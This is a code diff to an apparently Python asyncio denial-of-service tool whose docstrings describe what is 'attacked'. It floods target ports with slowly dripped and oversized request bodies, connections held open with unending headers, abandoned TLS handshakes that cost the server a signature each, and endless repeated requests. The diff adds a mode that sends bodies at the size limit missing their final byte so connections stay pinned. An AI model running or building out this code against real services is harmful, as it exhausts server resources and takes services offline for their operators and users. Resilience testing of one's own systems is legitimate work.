@@ -4,8 +4,9 @@ From each of three addresses of its own, on every port named, all at once: bodie
 byte by byte, and 500 connections that are held, half of them with headers that never end, half for questions that are not
 answered, with tokens that nobody knows; and TLS handshakes that are begun and left, which cost the other side a signature each,
 and nothing here. Where a port is given with a question that is served, that is asked in place of all this: the connections that
-are let in for it are kept, and many such questions at a time sent on each without end. A process of its own, for it takes all
-the time that it gets.
+are let in for it are kept, and many such questions at a time sent on each without end. Where the most is named that a body may have
+there, nothing but bodies is sent: such as are larger, and such as are as large as may be and lack their last byte. A process of
+its own, for it takes all the time that it gets.
 """
 
 import asyncio
@@ -28,17 +29,22 @@ _LARGE = 2
 _BEGUN = 100
 _KEPT = 20
 _TOGETHER = 30
+_UNENDED = 10
 _ERRORS = (OSError, EOFError, ssl.SSLError, TimeoutError)
 
 
 @dataclass(frozen=True)
 class Port:
-    """What is attacked: a port, a path there, and the text of a whole request that is served, if it is to be kept busy with that."""
+    """What is attacked: a port, a path there, and the text of a whole request that is served, if it is to be kept busy with that.
+
+    `limit` are the bytes that a body may have there, if it is to be sent nothing but bodies.
+    """
 
     number: int
     path: str
     tls: bool = False
     served: str = ""
+    limit: int = 0
 
     @property
     def text(self) -> str:
@@ -57,7 +63,7 @@ class Target:
     def __init__(self, port: Port, address: str) -> None:
         self._address = address
         self.port, self.path = port.number, port.path
-        self.served = port.served.encode()
+        self.served, self.limit = port.served.encode(), port.limit
         self.tls: ssl.SSLContext | None = None
         if port.tls:
             self.tls = ssl.create_default_context()
@@ -79,6 +85,13 @@ class Target:
         head = f"POST {self.path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
         return f"{head}Content-Length: {length}\r\n\r\n".encode()
 
+    async def send(self, writer: asyncio.StreamWriter, length: int, sent: int) -> None:
+        """So many bytes of a body of this length."""
+        writer.write(self.head(length))
+        for begin in range(0, sent, 2**16):
+            writer.write(b" " * min(2**16, sent - begin))
+            await writer.drain()
+
 
 Attempt = Callable[[Target, asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]
 
@@ -95,11 +108,12 @@ async def _again_and_again(target: Target, attempt: Attempt) -> None:
 
 
 async def _large(target: Target, _reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-    writer.write(target.head(LARGE))
-    piece = b" " * 2**16
-    for _ in range(LARGE // len(piece)):
-        writer.write(piece)
-        await writer.drain()
+    await target.send(writer, LARGE, LARGE)
+
+
+async def _unended(target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+    await target.send(writer, target.limit, target.limit - 1)
+    await reader.read()
 
 
 async def _slow(target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
@@ -154,6 +168,8 @@ def _waves(target: Target) -> tuple[tuple[Attempt, int], ...]:
     """What is done on a port, and by how many at a time."""
     if target.served:
         return ((_kept, _KEPT),)
+    if target.limit:
+        return (_large, _LARGE), (_unended, _UNENDED)
     return (_large, _LARGE), (_slow, _SLOW), (_held, CONNECTIONS // 2), (_asked, CONNECTIONS // 2)
 
 
@@ -161,7 +177,7 @@ async def _attack(seconds: float, targets: Sequence[Target]) -> None:
     with suppress(TimeoutError):
         async with asyncio.timeout(seconds), asyncio.TaskGroup() as tasks:
             for target in targets:
-                for _ in range(_BEGUN if target.tls and not target.served else 0):
+                for _ in range(_BEGUN if target.tls and not (target.served or target.limit) else 0):
                     tasks.create_task(_begun(target))
                 for attempt, count in _waves(target):
                     for _ in range(count):
